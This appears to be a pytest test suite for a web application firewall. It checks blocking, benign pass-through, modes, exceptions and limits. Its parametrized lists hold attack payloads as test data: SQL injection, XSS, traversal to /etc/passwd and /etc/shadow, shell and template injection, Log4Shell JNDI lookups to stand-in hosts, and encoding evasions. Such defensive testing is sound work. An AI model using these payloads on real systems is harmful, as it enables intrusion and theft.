"""The filter's decisions: attacks in every part and under every evasion are refused with an
explanation; benign look-alikes pass; modes, paranoia, exceptions and limits behave."""

from __future__ import annotations

import datetime as dt

import pytest

from tests.filters.waf.conftest import blocked, run, waf
from wardgate.config import load_policy_text
from wardgate.config.loading import PolicyError

EVASIONS = [
    ("plain", "/?q=1' OR '1'='1"),
    ("double url-encoding", "/?q=%2527%2520OR%2520%25271%2527%253D%25271"),
    ("IIS %u encoding", "/?file=%u002e%u002e%u2215etc%u2215passwd"),
    ("full-width", "/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
    ("null byte", "/?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"),
    ("backslash traversal", "/?f=..%5C..%5C..%5Cwindows%5Cwin.ini"),
    ("html entities", "/?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"),
    ("js escapes", "/?q=%5Cx3cscript%5Cx3ealert(1)%5Cx3c/script%5Cx3e"),
    ("sql comments", "/?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
    ("mixed case", "/?id=1 UnIoN SeLeCt username, password FrOm users"),
    ("shell quotes", "/?host=x;w'h'o'a'm'i"),
    ("log4shell nested lookups", "/?x=${${lower:j}ndi:${lower:l}dap://e.example/a}"),
    ("path ;params", "/static/..;/..;/etc/passwd"),
    ("encoded path traversal", "/files/%2e%2e/%2e%2e/etc/passwd"),
]


@pytest.mark.parametrize(("technique", "target"), EVASIONS, ids=[e[0] for e in EVASIONS])
def test_evasion_techniques_are_blocked(default_waf, technique, target):
    assert blocked(default_waf, target), technique


ATTACKS_IN_HEADERS = [
    ("X-Api-Version", "${jndi:ldap://evil.example/x}"),
    ("User-Agent", "Mozilla/5.0' UNION SELECT password FROM users--"),
    ("Referer", "https://a.example/<script>alert(document.cookie)</script>"),
    ("X-Forwarded-Host", "127.0.0.1; cat /etc/passwd"),
    ("X-Custom-Data", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("X-File", "../../../../etc/shadow"),
]


@pytest.mark.parametrize(("header", "value"), ATTACKS_IN_HEADERS)
def test_attacks_in_arbitrary_headers_are_blocked(default_waf, header, value):
    reply, _ = run(default_waf, "/", headers=[(header, value)])
    assert reply is not None and reply.status == 403
    assert any(v.location == f"header:{header.lower()}" for v in reply.violations)


@pytest.mark.parametrize(
    "target",
    [
        "/users/1%27%20OR%20%271%27%3D%271",
        "/download/..%2f..%2f..%2fetc%2fpasswd",
        "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/run/;cat%20%2Fetc%2Fpasswd",
        "/api/${jndi:ldap:%2F%2Fx.example%2Fa}",
    ],
)
def test_attacks_in_the_path_are_blocked(default_waf, target):
    reply, _ = run(default_waf, target)
    assert reply is not None and any(v.location == "path" for v in reply.violations)


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=O%27Brien%20%26%20Sons",
        "/api/v1/users/42/orders?sort=-created_at&page=2",
        "/blog/how-to-select-the-right-union-rep",
        "/docs?q=select%20the%20best%20option%20from%20the%20list",
        "/files/report.final.v2.pdf",
        "/?email=first.last%2Btag%40example.com&next=https%3A%2F%2Fexample.com%2Fhome",
    ],
)
def test_benign_requests_pass(default_waf, target):
    assert not blocked(default_waf, target)


def test_block_explains_itself_without_the_value(default_waf):
    reply, _ = run(default_waf, "/?name=x&comment=%3Cscript%3Ealert(%27secret%27)%3C/script%3E")
    assert reply is not None
    assert (reply.status, reply.filter, reply.reason) == (403, "waf", "attack_detected")
    assert "anomaly score" in reply.detail and "xss" in reply.detail
    assert all(v.location == "query:comment" for v in reply.violations)
    assert all(v.rule_id.startswith("waf.941") for v in reply.violations)
    rendered = reply.render_body("req-1").decode()
    assert "secret" not in rendered and "alert" not in rendered


def test_detect_mode_records_findings_and_lets_through():
    reply, request = run(waf(mode="detect"), "/?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert reply is None
    assert request.findings and all(f.location == "query:q" for f in request.findings)


def test_family_modes_override_the_section():
    config = waf(families={"xss": {"mode": "detect"}})
    xss, request = run(config, "/?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert xss is None and request.findings
    sqli, _ = run(config, "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--")
    assert sqli is not None
    off = waf(families={"sqli": {"mode": "off"}})
    assert all(r.family.value != "sqli" for r in off.rules)


def test_paranoia_level_adds_rules():
    assert len(waf(paranoiaLevel=2).rules) > len(waf().rules)
    assert len(waf(families={"sqli": {"paranoiaLevel": 2}}).rules) > len(waf().rules)
    target = "/?v=0x414243444546474849"  # hex string: a paranoia-level-2 rule
    reply, request = run(waf(paranoiaLevel=2), target)
    assert any(f.rule_id == "waf.942260" for f in request.findings) or (
        reply is not None and any(v.rule_id == "waf.942260" for v in reply.violations)
    )


def test_exception_narrowed_to_rule_and_location():
    config = waf(
        exceptions=[
            {
                "families": ["xss"],
                "locations": ["body:$.html"],
                "paths": ["/cms"],
                "reason": "CMS editor posts HTML",
            }
        ]
    )
    body = '{"html": "<b onmouseover=alert(1)>hi</b>", "title": "ok"}'
    allowed, _ = run(
        config, "/cms/pages", method="POST", body=body, content_type="application/json"
    )
    assert allowed is None
    # Same payload elsewhere: another field, another path.
    other_field = '{"title": "<b onmouseover=alert(1)>hi</b>"}'
    assert run(
        config, "/cms/pages", method="POST", body=other_field, content_type="application/json"
    )[0]
    assert run(config, "/api/pages", method="POST", body=body, content_type="application/json")[0]
    # The path prefix is segment-aware.
    assert run(config, "/cmsx/pages", method="POST", body=body, content_type="application/json")[0]


def test_exception_by_rule_id_and_method():
    target = "/search?q=1%27%20OR%20%271%27%3D%271"
    reply, _ = run(waf(), target)
    fired = {v.rule_id.removeprefix("waf.") for v in reply.violations}
    config = waf(
        exceptions=[
            {"ruleIds": sorted(fired), "locations": ["query:q"], "methods": ["GET"], "reason": "t"}
        ]
    )
    assert run(config, target)[0] is None
    assert run(config, target, method="DELETE")[0] is not None


def test_expired_exception_stops_applying_and_is_reported():
    past = (dt.datetime.now(dt.UTC) - dt.timedelta(days=1)).isoformat()
    config = waf(
        exceptions=[
            {"families": ["xss"], "locations": ["query:q"], "reason": "old", "expiresAt": past}
        ]
    )
    assert blocked(config, "/?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert any("expired" in note for note in config.limitations())


@pytest.mark.parametrize(
    "exception",
    [
        {"locations": ["query:q"], "reason": "no rules named"},
        {"families": ["xss"], "reason": "applies everywhere"},
        {"families": ["xss"], "locations": ["query:q"]},
        {"families": ["nope"], "locations": ["query:q"], "reason": "x"},
        {"ruleIds": ["94"], "locations": ["query:q"], "reason": "x"},
        {"families": ["xss"], "locations": ["anywhere"], "reason": "x"},
        {
            "families": ["xss"],
            "locations": ["query:q"],
            "reason": "x",
            "expiresAt": "2030-01-01T00:00:00",
        },
    ],
)
def test_broad_or_malformed_exceptions_are_refused(exception):
    with pytest.raises(PolicyError):
        load_policy_text(f"waf: {{exceptions: [{exception!r}]}}".replace("'", '"'))


def test_yaml_off_means_off():
    assert load_policy_text("waf: {mode: off}").waf.mode.value == "off"
    assert load_policy_text("waf: {families: {scanner: {mode: off}}}").waf.families


def test_body_over_the_inspection_limit_is_refused_unless_allowed():
    body = "a=" + "x" * 2000
    strict = waf(requestBodyLimit=1000)
    reply, _ = run(
        strict, "/", method="POST", body=body, content_type="application/x-www-form-urlencoded"
    )
    assert reply is not None and (reply.status, reply.reason) == (413, "body_over_inspection_limit")
    lenient = waf(requestBodyLimit=1000, oversizeAction="allowUninspected")
    reply, _ = run(
        lenient, "/", method="POST", body=body, content_type="application/x-www-form-urlencoded"
    )
    assert reply is None
    assert any("inspected" in note for note in lenient.limitations())


def test_too_many_query_parameters():
    reply, _ = run(waf(maxParameters=10), "/?" + "&".join(f"p{i}=1" for i in range(11)))
    assert reply is not None and (reply.status, reply.reason) == (400, "too_many_parameters")


def test_score_accumulates_across_headers_and_body():
    # Threshold 8: one critical match (5) is not enough, one in the headers plus one in the
    # body is; the filter carries the header-phase score into the body phase.
    config = waf(anomalyThreshold=8)
    header = [("X-Trace", "__proto__")]
    alone, request = run(config, "/", headers=header)
    assert alone is None and request.findings
    body = "comment=%3Cscript%3Ealert(1)%3C/script%3E"
    both, _ = run(
        config,
        "/",
        method="POST",
        headers=header,
        body=body,
        content_type="application/x-www-form-urlencoded",
    )
    assert both is not None and {v.location for v in both.violations} >= {
        "header:x-trace",
        "body:comment",
    }


def test_named_levels_set_paranoia_and_threshold():
    basic, strict = waf(level="basic"), waf(level="strict")
    assert (basic.threshold, len(basic.rules)) == (10, len(waf().rules))
    assert strict.threshold == 5 and len(strict.rules) == len(waf(paranoiaLevel=2).rules)
    assert waf(level="strict", paranoiaLevel=1).rules == waf().rules  # explicit field wins
    # One critical match (score 5) blocks at standard, not at basic.
    target = "/?x=__proto__"
    assert blocked(waf(), target) and not blocked(basic, target)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ('{"\\udac4name": "x", "q": "1\' OR \'1\'=\'1"}', "application/json"),
        ('{"q": "\\ud800<script>alert(1)</script>"}', "application/json"),
    ],
)
def test_lone_surrogates_are_inspected_not_a_filter_error(default_waf, body, content_type):
    # Found by schemathesis: a JSON escape of a lone surrogate reached libinjection, which
    # raised, and the request was refused 500 instead of being judged.
    reply, _ = run(default_waf, "/", method="POST", body=body, content_type=content_type)
    assert reply is not None and reply.status == 403 and reply.reason == "attack_detected"


def test_lone_surrogates_alone_are_benign(default_waf):
    reply, _ = run(
        default_waf,
        "/",
        method="POST",
        body='{"\\udac4": 3.0e+80}',
        content_type="application/json",
    )
    assert reply is None
